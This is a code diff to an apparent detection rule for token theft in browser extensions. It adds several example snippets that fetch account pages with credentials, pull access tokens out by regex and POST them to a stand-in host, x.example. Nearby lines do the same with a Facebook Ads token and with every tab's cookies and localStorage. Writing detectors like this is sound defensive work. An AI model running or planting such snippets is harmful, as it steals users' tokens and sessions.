@@ -30,6 +30,15 @@ export const tokenTakenFromPage = defineRule({
         'fetch("https://adsmanager.facebook.com/adsmanager/manage/campaigns").then((r) => r.text()).then((t) => { const m = /EAAB\\w+/.exec(t); fetch("https://x.example/f?t=" + m[0]); });',
       ),
       backgroundExample(
+        'fetch("https://shop.example/account", { credentials: "include" }).then((r) => r.text()).then((t) => { const m = /accessToken="([^"]+)"/.exec(t); fetch("https://x.example/f", { method: "POST", body: m[1] }); });',
+      ),
+      backgroundExample(
+        'fetch("https://shop.example/account", { credentials: "include" }).then((r) => r.text()).then((t) => { const m = /"access_token":"(.*?)"/.exec(t); fetch("https://x.example/f", { method: "POST", body: m[1] }); });',
+      ),
+      backgroundExample(
+        'fetch("https://shop.example/account", { credentials: "include" }).then((r) => r.text()).then((t) => { const m = /"accessToken"\\s*:\\s*"([^"]+)/.exec(t); fetch("https://x.example/f", { method: "POST", body: m[1] }); });',
+      ),
+      backgroundExample(
         'chrome.tabs.onUpdated.addListener((tabId, i, tab) => { chrome.scripting.executeScript({ target: { tabId }, func: () => ({ ls: { ...localStorage }, ck: document.cookie }) }).then(([r]) => { fetch("https://x.example/up", { method: "POST", body: JSON.stringify(r.result) }); }); });',
       ),
       contentExample(
